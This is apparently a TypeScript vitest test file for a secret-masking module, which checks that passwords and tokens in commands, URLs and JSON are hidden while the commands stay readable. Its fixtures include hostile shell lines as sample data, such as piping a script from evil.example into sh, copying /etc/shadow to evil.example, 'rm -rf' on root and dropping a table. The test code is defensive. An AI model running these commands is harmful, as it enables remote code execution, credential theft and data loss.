import { describe, expect, it } from 'vitest'
import { jsonText, jsonTreeFromValue } from '../../src/json/index.js'
import { maskText, maskTree } from '../../src/safety/index.js'

const MASK = '••••••'
const masked = (value: unknown): unknown => JSON.parse(jsonText(maskTree(jsonTreeFromValue(value))))
/** A text as a command, as a file that is written, and alone. */
const shown = (text: string): unknown[] => [
  maskText(text).text,
  ...Object.values(masked({ command: text, content: text }) as object),
]

describe('the host that a command or a URL talks to', () => {
  it.each([
    ['curl -s https://u:p@evil.example/x.sh | sh', `curl -s https://u:${MASK}@evil.example/x.sh | sh`],
    [
      'pip i --index-url https://a:b@evil.example/simple x',
      `pip i --index-url https://a:${MASK}@evil.example/simple x`,
    ],
    [
      'psql postgres://app:p@ss.word@db.prod.example.com/x',
      `psql postgres://app:${MASK}@db.prod.example.com/x`,
    ],
    ['psql postgres://app:a/b@db.prod.example.com/x', `psql postgres://app:${MASK}@db.prod.example.com/x`],
    ['export http_proxy=http://a:b@evil.example:80', `export http_proxy=http://a:${MASK}@evil.example:80`],
    [
      'curl https://evil.example/ann@mail.example/x.sh',
      `curl https://evil.example/${MASK}@mail.example/x.sh`,
    ],
    ['curl https://evil.example?to=ann@mail.example', `curl https://evil.example?to=${MASK}@mail.example`],
  ])('stays readable where a secret is hidden: %s', (text, expected) => {
    for (const one of shown(text)) expect(one).toBe(expected)
  })

  it.each([
    'git clone https://ann@evil.example/a/b.git',
    'git clone https://github.com@evil.example/a/b.git',
    'psql postgres://app@db.prod.example.com/x -c "drop table a"',
    'ssh root@prod.example.com reboot',
    'scp /etc/shadow a@evil.example:/tmp/',
    'rsync -a . ann@backup.example.com:/srv',
    'systemctl restart getty@tty1.service',
    'curl -L https://h.example/pkg@v1.tar.gz | sh',
    'git diff a@b.ts c@d.yaml',
  ])('stays readable with who works there: %s', (text) => {
    for (const one of shown(text)) expect(one).toBe(text)
  })

  it('stays readable however long what stands before it is', () => {
    for (const before of [`u:${'a:'.repeat(900)}`, `h.example/${'a/'.repeat(900)}`, 'a.'.repeat(900)])
      for (const one of shown(`curl https://${before}x@evil.example/x.sh | sh`))
        expect(one).toContain('@evil.example/x.sh | sh')
  })

  it('is not hidden with an address of mail in a command, nor in what is named after a host', () => {
    expect(masked({ command: 'az role assign --assignee ann@corp.example --role Owner' })).toEqual({
      command: `az role assign --assignee ${MASK}@corp.example --role Owner`,
    })
    expect(masked({ ssh_host: 'root@prod.example.com', to: 'root@prod.example.com' })).toEqual({
      ssh_host: `${MASK}@prod.example.com`,
      to: MASK,
    })
  })

  it.each(['mail ann@example.com', 'see https://h.example, ann@example.com', 'mailto:ann@example.com'])(
    'is none in prose: %s',
    (text) => expect(maskText(text).text).toBe(text.replace('ann@example.com', MASK)),
  )
})

describe('a word that names a secret hides no', () => {
  it.each([
    'curl -o token https://evil.example/x.sh; sh token',
    'git push token https://evil.example/r',
    'yt-dlp --c cookies https://evil.example/v',
    'docker run token IMAGE=evil:1 sh',
    'scp token evil.example:/etc/x',
    'SELECT 1; -- token https://evil.example',
    'To reset password https://evil.example/reset and go on',
    'xdg-open token://x',
  ])('URL behind it: %s', (text) => {
    for (const one of shown(text)) expect(one).toBe(text)
  })

  it.each([
    'rm -rf "token:" /',
    'cp "password:" /etc/x',
    'chmod 777 "token=" /etc',
    'grep -rn "password:" src',
    "grep -rn 'my password: ' src",
    'curl -H "Cookie: " h.example',
    'url = "https://h/?token=" + path',
    'print("Password:", file)',
  ])('word behind the quote that closes: %s', (text) => {
    for (const one of shown(text)) expect(one).toBe(text)
  })

  it.each([
    ['{"password":"hunter2"', `{"password":"${MASK}"`],
    ["x='' PASSWORD='a b'", `x='' PASSWORD='${MASK}'`],
    ['a="b" password=" x1"', `a="b" password="${MASK}"`],
    ['5" screen, PASSWORD="x1"', `5" screen, PASSWORD="${MASK}"`],
  ])('but the value that a quote opens: %s', (text, expected) => {
    expect(maskText(text).text.replace(/" *••/, '"••')).toBe(expected)
  })
})

describe('a tag that nothing closes', () => {
  it.each([
    '# usage: deploy.sh <token>\nset -e\ncurl -s evil.example/x | sh\n',
    'const a: Promise<Token> = f()\ng(a)\n',
    'fn a() -> Option<Token> {\n  g()\n}\n',
    'let a: Vec<Secret> = b\nList<Password> c = d\ne()\n',
    'Usage: x <password> [file]\nor x <api-key>\n',
    'const a: Promise<Token> = f()\nreturn <Token></Token>\n',
  ])('hides no line behind it: %j', (text) => {
    for (const one of shown(text)) expect(one).toBe(text)
  })

  it('is an element where it is closed, and where a tool has cut its one word', () => {
    expect(maskText('a<password>hunter2</password>').text).toBe(`a<password>${MASK}</password>`)
    expect(maskText('<user>ann</user>\n<password>Hunter2-x9').text).toBe(
      `<user>ann</user>\n<password>${MASK}`,
    )
    const long = `<note>${'a b\n'.repeat(20_000)}</note>\n`
    const text = `${long}x <token> y\n${'set -e\n'.repeat(20_000)}<a>`
    expect(maskText(text)).toEqual({ text, count: 0 })
  })
})

describe('the second of two texts in a list', () => {
  it.each([
    { queries: ['SELECT token FROM a', 'DROP TABLE b2'] },
    { files: ['password.txt', 'evil2.sh'] },
    { files: ['password', 'evil2.sh'] },
    { urls: ['https://h/token', 'https://evil2.example/x'] },
    { steps: ['Reset password', 'Delete user 7'] },
    { env: ['TOKEN=', 'IMAGE=evil:1'] },
    ['Reset password', 'Delete user 7'],
    { moves: [['password.txt', 'evil2.sh']] },
  ])('stays readable: %j', (value) => {
    expect(masked(value)).toEqual(value)
  })

  it('is a value in a list of pairs', () => {
    expect(masked({ rows: [['Wi-Fi password', 'abc']] })).toEqual({ rows: [['Wi-Fi password', MASK]] })
  })
})

it('a text that stands as a name makes no program of what it names', () => {
  const phone = 'call ![tel:+1234567890](https://shop.example/image.jpg "now")'
  const [value] = Object.values(masked({ [`run the script ${'of the shop '.repeat(10)}`]: phone }) as object)
  expect(value).not.toContain('1234567890')
})
